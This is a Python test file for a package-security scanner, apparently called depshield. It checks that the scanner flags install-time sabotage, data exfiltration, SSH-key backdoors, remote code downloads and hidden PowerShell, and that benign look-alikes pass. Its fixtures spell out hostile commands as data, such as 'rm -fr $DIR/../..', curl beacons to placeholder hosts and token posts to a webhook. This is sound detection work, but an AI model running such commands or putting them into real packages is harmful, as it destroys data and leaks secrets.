"""Correlation rules: each threat fires on its chain (type, file, line, action) and stays quiet
on the look-alike that differs by what makes it an attack."""

from __future__ import annotations

from depshield.alerts.judge import judge
from depshield.analyzers.base import SIGNAL_SINK, SIGNAL_SOURCE, SIGNAL_SPAWN, SIGNAL_WRITE
from depshield.ecosystems.base import ManifestAnalysis
from depshield.model import FileAnalysis, Finding, PackageRef, PackageResult
from depshield.policy import Policy

REF = PackageRef("npm", "demo", "1.0.0")


def spawn(file: str, line: int, command: str, args: str = "") -> Finding:
    props = {"command": command, "args": args}
    return Finding(SIGNAL_SPAWN, file, line, f"{command} {args}".strip(), props, top_level=True)


def run(
    *findings: Finding,
    install: tuple[str, ...] = (),
    imports: tuple[str, ...] = (),
    native: tuple[str, ...] = (),
) -> PackageResult:
    manifest = ManifestAnalysis("demo", "1.0.0", install_entries=install, import_entries=imports)
    by_file: dict[str, list[Finding]] = {}
    for f in findings:
        by_file.setdefault(f.file, []).append(f)
    files = [FileAnalysis(p, "javascript", tuple(fs), (), 40) for p, fs in by_file.items()]
    files += [
        FileAnalysis(n, "binary", (Finding("hasNativeCode", n, 0, n, {"format": "elf"}),), (), 0)
        for n in native
    ]
    paths = [fa.path for fa in files] + ["package.json"]
    return judge(REF, manifest, files, paths, [], policy=Policy())


def alerts(result: PackageResult, type_: str) -> list[tuple[str | None, int | None, str]]:
    return [(a.file, a.line, a.action) for a in result.alerts if a.type == type_]


def test_install_time_shutdown_or_delete_above_the_package_blocks() -> None:
    shutdown = run(spawn("x.sh", 2, "shutdown", "-s now"), install=("x.sh",))
    assert alerts(shutdown, "troll") == [("x.sh", 2, "error")]
    above = run(spawn("x.sh", 6, "rm", "-fr $DIR/../.."), install=("x.sh",))
    assert alerts(above, "troll") == [("x.sh", 6, "error")]
    filler = run(spawn("x.sh", 3, "dd", "if=/dev/zero of=$T/f count=99999"), install=("x.sh",))
    assert alerts(filler, "troll") == [("x.sh", 3, "error")]


def test_cleaning_own_build_or_a_cache_below_is_not_sabotage() -> None:
    own = spawn("x.sh", 2, "rm", "-rf build")
    cache = spawn("x.sh", 3, "rm", "-rf ../../node_modules/.cache")
    assert alerts(run(own, cache, install=("x.sh",)), "troll") == []


def test_host_data_sent_by_a_spawned_network_tool_is_exfiltration() -> None:
    host = Finding(SIGNAL_SOURCE, "build.js", 8, "os.hostname()", {"kind": "hostname"}, True)
    curl = spawn("build.js", 29, "curl", "https://collect.example.invalid/p/$EXPR")
    assert alerts(run(host, curl, install=("build.js",)), "dataExfiltration") == [
        ("build.js", 29, "error")
    ]
    # The same pair in code that only runs when called reads nothing that qualifies there.
    assert alerts(run(host, curl), "dataExfiltration") == []
    git = spawn("build.js", 29, "git", "describe --tags")
    assert alerts(run(host, git, install=("build.js",)), "dataExfiltration") == []


def test_authorized_keys_written_at_install_is_a_backdoor() -> None:
    write = Finding(
        SIGNAL_WRITE,
        "index.js",
        8,
        "fs.appendFile(target, key)",
        {"detail": "fs.appendFile", "target": "ssh-authorized-keys"},
        top_level=True,
    )
    assert alerts(run(write, install=("index.js",)), "reverseShell") == [("index.js", 8, "error")]
    # An SSH key manager's function that writes keys when asked is not judged.
    assert alerts(run(write), "reverseShell") == []
    plain = Finding(SIGNAL_WRITE, "index.js", 8, "fs.appendFile(f, d)", {"detail": "x"}, True)
    assert alerts(run(plain, install=("index.js",)), "reverseShell") == []


def test_spawning_a_remote_executable_url() -> None:
    fetcher = spawn("a.js", 1, "node", "l.js https://cdn.example.invalid/a.exe C:/t/a.exe")
    assert alerts(run(fetcher, install=("a.js",)), "remoteCodeDownload") == [("a.js", 1, "error")]
    # Whatever runs it: the program started is whatever the server sends (issue 11).
    assert alerts(run(fetcher), "remoteCodeDownload") == [("a.js", 1, "error")]
    archive = spawn("a.js", 1, "curl", "-LO https://cdn.example.invalid/tool-1.0.tar.gz")
    assert alerts(run(archive, install=("a.js",)), "remoteCodeDownload") == []


def test_starting_a_remote_desktop_tool_blocks_even_when_called() -> None:
    viewer = spawn("a.js", 1, "TeamViewer.exe")
    assert alerts(run(viewer), "reverseShell") == [("a.js", 1, "error")]
    in_tests = spawn("test/a.js", 1, "TeamViewer.exe")
    assert alerts(run(in_tests), "reverseShell") == [("test/a.js", 1, "monitor")]
    team = spawn("a.js", 1, "teamcity-agent", "start")
    assert alerts(run(team), "reverseShell") == []


def test_hidden_powershell_at_import_blocks() -> None:
    hidden = spawn("index.js", 8, "powershell.exe", "powershell -WindowStyle hidden -Command x")
    assert alerts(run(hidden, imports=("index.js",)), "troll") == [("index.js", 8, "error")]
    assert alerts(run(hidden, install=("index.js",)), "troll") == [("index.js", 8, "error")]
    visible = spawn("index.js", 8, "powershell.exe", "-NoProfile -Command Get-Date")
    assert alerts(run(visible, imports=("index.js",)), "troll") == []
    assert alerts(run(hidden), "troll") == []  # only when called: not judged


def test_shipped_binary_started_when_called_warns() -> None:
    start = spawn("index.js", 4, "chmod a+x ./node_modules/demo/gcc && ./node_modules/demo/gcc")
    result = run(start, native=("gcc",))
    assert alerts(result, "binaryDropper") == [("index.js", 4, "warn")]
    assert alerts(run(start, native=("gcc",), install=("index.js",)), "binaryDropper") == [
        ("index.js", 4, "error")
    ]
    other = spawn("index.js", 4, "git", "status")
    assert alerts(run(other, native=("gcc",)), "binaryDropper") == []


def test_printing_the_word_reboot_is_not_sabotage() -> None:
    said = spawn("x.sh", 2, "echo", "please reboot to finish")
    assert alerts(run(said, install=("x.sh",)), "troll") == []


def test_wrapper_starting_its_bundled_tool_when_called_is_not_a_dropper() -> None:
    wrapper = spawn("index.js", 4, "fallbacks/xsel", "--clipboard")
    assert alerts(run(wrapper, native=("fallbacks/xsel",)), "binaryDropper") == []


def test_web_session_token_sent_to_a_chat_webhook_blocks_even_when_called() -> None:
    token = Finding(
        SIGNAL_SOURCE, "index.js", 16, "localStorage.token", {"kind": "browser-token"}, False
    )
    hook = Finding(
        SIGNAL_SINK,
        "index.js",
        7,
        "https://discord.invalid/api/webhooks/1/x",
        {"kind": "webhook"},
        False,
    )
    assert alerts(run(token, hook), "dataExfiltration") == [("index.js", 7, "error")]
    api = Finding(SIGNAL_SINK, "index.js", 7, "fetch('/api/me')", {"kind": "network"}, False)
    assert alerts(run(token, api), "dataExfiltration") == []


def _report_home(opt_out: str | None) -> PackageResult:
    """An install script that posts to its own fixed address, reading `opt_out` if given."""
    sink = Finding(
        SIGNAL_SINK,
        "t.js",
        6,
        "https.request('https://t.example.invalid/e')",
        {"kind": "network"},
        top_level=True,
    )
    found = [sink, Finding("urlStrings", "t.js", 6, "https://t.example.invalid/e", {})]
    if opt_out is not None:
        found.append(Finding("envVars", "t.js", 2, opt_out, {"envVars": [opt_out]}))
    return run(*found, install=("t.js",))


def test_install_report_that_honours_an_opt_out_is_telemetry() -> None:
    result = _report_home("NEXT_TELEMETRY_DISABLED")
    assert alerts(result, "telemetry") == [("t.js", 6, "monitor")]
    assert alerts(result, "dataExfiltration") == []


def test_install_report_without_an_opt_out_stays_a_beacon() -> None:
    result = _report_home("HOME")  # a variable, but no way to switch the report off
    assert alerts(result, "telemetry") == []
    assert alerts(result, "dataExfiltration") == [("t.js", 6, "error")]
